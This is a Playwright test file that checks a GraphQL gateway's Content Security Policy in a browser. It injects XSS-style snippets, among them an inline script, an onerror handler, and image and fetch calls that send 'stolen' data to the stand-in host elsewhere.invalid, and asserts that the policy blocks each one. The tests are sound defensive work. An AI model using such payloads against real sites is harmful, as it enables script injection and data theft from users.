"""The policy of the pages, as a real browser sees it: nothing on them breaks it, and what would is stopped."""

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
from playwright.async_api import Browser, Page, async_playwright

from tests.browsing import QUIET, browser_path
from tests.running import Gateway

#: Told before anything else of a page runs; what a page breaks while it is read comes after.
LISTEN = """
window.broken = [];
window.brokenOnce = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (event) => {
    window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`);
    resolve(true);
}));
"""
PAGES = ("/", "/account", "/account#token=x&for=password", "/graphql", "/nowhere", "/schema.graphql", "/readyz")

LOUD = ("error", "warning")


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    path = browser_path()
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=path, args=[*QUIET])
        yield browser
        await browser.close()


@pytest.fixture
async def page(browser: Browser, demo: Gateway) -> AsyncIterator[Page]:
    context = await browser.new_context(base_url=demo.url)
    page = await context.new_page()
    await page.add_init_script(LISTEN)
    yield page
    await context.close()


async def broken(page: Page) -> list[str]:
    found: list[str] = await page.evaluate("window.broken")
    return found


@pytest.mark.parametrize("path", PAGES)
async def test_no_page_breaks_its_policy_or_asks_another_host(page: Page, demo: Gateway, path: str) -> None:
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text) if message.type in LOUD else None)
    await page.goto(path, wait_until="networkidle")
    assert await broken(page) == []
    assert [url for url in asked if not url.startswith((f"{demo.url}/", "data:"))] == []
    # Of a page that is not there, Chromium says so itself.
    assert [text for text in said if "404" not in text] == []


async def run(page: Page, script: str) -> Any:
    return await page.evaluate(f"(() => {{ {script} }})()")


#: What somebody would do who had got a piece of text into a page.
ATTACKS = {
    "an inline script": (
        "const s = document.createElement('script'); s.textContent = 'window.taken = 1'; document.body.append(s)",
        "script-src-elem inline",
    ),
    "a handler": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=window.taken=1>')",
        "script-src-attr inline",
    ),
    "a script from elsewhere": (
        "const s = document.createElement('script'); s.src = 'https://elsewhere.invalid/x.js'; document.body.append(s)",
        "script-src-elem https://elsewhere.invalid/x.js",
    ),
    "a frame": (
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://elsewhere.invalid/></iframe>')",
        "frame-src https://elsewhere.invalid",
    ),
    "a picture that tells": (
        "new Image().src = 'https://elsewhere.invalid/?stolen'",
        "img-src https://elsewhere.invalid/?stolen",
    ),
    "a message elsewhere": (
        "fetch('https://elsewhere.invalid/stolen', {method: 'POST', body: 'x'}).catch(() => {})",
        "connect-src https://elsewhere.invalid/stolen",
    ),
    "a form elsewhere": (
        (
            "document.body.insertAdjacentHTML('beforeend', '<form action=https://elsewhere.invalid/></form>');"
            "document.forms[document.forms.length - 1].submit()"
        ),
        "form-action https://elsewhere.invalid",
    ),
    "another base": (
        "const b = document.createElement('base'); b.href = 'https://elsewhere.invalid/'; document.head.append(b)",
        "base-uri https://elsewhere.invalid/",
    ),
    "an object": (
        "document.body.insertAdjacentHTML('beforeend', '<object data=https://elsewhere.invalid/></object>')",
        "object-src https://elsewhere.invalid",
    ),
}


@pytest.mark.parametrize(("script", "stopped"), ATTACKS.values(), ids=ATTACKS)
async def test_what_would_break_it_is_stopped(page: Page, script: str, stopped: str) -> None:
    asked: list[str] = []
    await page.goto("/account", wait_until="load")
    page.on("response", lambda answer: asked.append(answer.url))
    await run(page, script)
    # A function that is tried until it holds would be an `eval`, which the policy of the page forbids.
    assert await page.evaluate("window.brokenOnce")
    (found,) = await broken(page)
    assert found.startswith(stopped)
    assert await page.evaluate("window.taken") is None
    assert [url for url in asked if "elsewhere" in url] == []


async def test_nobody_frames_a_page(page: Page, demo: Gateway) -> None:
    """Another site, which has no policy of its own, shows GraphiQL in a frame: the browser leaves it empty."""

    async def other(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        body = f'<iframe src="{demo.url}/graphql"></iframe>'
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        writer.write((head + body).encode())
        writer.close()

    failed: list[tuple[str, str | None]] = []
    page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
    async with await asyncio.start_server(other, "127.0.0.1") as site:
        await page.goto(f"http://127.0.0.1:{site.sockets[0].getsockname()[1]}/", wait_until="load")
    assert [one for one in failed if one[0].startswith(demo.url)] == [
        (f"{demo.url}/graphql", "net::ERR_BLOCKED_BY_RESPONSE")
    ]
    assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"]
